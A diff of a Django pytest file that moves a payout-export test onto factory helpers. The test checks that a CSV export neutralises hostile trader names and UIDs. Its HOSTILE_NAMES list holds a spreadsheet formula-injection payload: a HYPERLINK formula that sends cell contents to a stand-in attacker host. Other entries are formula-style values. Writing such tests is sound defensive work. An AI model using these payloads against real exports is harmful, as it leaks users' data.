@@ -15,11 +15,11 @@ import pytest
 from django.conf import settings
 from django.urls import reverse
 
-from campaigns.models import Enrollment, RewardPool
+from campaigns.models import RewardPool
 from core.csv_export import FORMULA_STARTS, csv_cell, csv_document
 from rewards.services.payouts import payout_batch_approve, payout_batch_calculate
+from tests.factories import EnrollmentFactory, LeadTraderFactory
 from tests.payouts_helpers import period_of, phase2, post, sh, staff
-from traders.models import LeadTrader
 
 HOSTILE_NAMES = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
@@ -72,13 +72,13 @@ def test_the_payout_export_neutralises_every_hostile_cell(client):
     """The attack: hostile display names and UIDs reach an approved batch; the exported cells are all inert."""
     campaign = phase2()
     for n, name in enumerate(HOSTILE_NAMES):
-        trader = LeadTrader.objects.create(
+        trader = LeadTraderFactory(
             display_name=name[:64],
             exchange_uid=f"=1+{n}" if n % 2 else f"@U{n}",
             email=f"h{n}@example.com",
-            status="active",
+            active=True,
         )
-        Enrollment.objects.create(campaign=campaign, trader=trader, status="approved", submitted_at=campaign.starts_at)
+        EnrollmentFactory(campaign=campaign, trader=trader)
         for day in (13, 14, 15):
             post(campaign, trader, sh(2026, 2, day, 10), views=100 + n, likes=n, copy_volume=str(10 + n))
     batch = payout_batch_calculate(
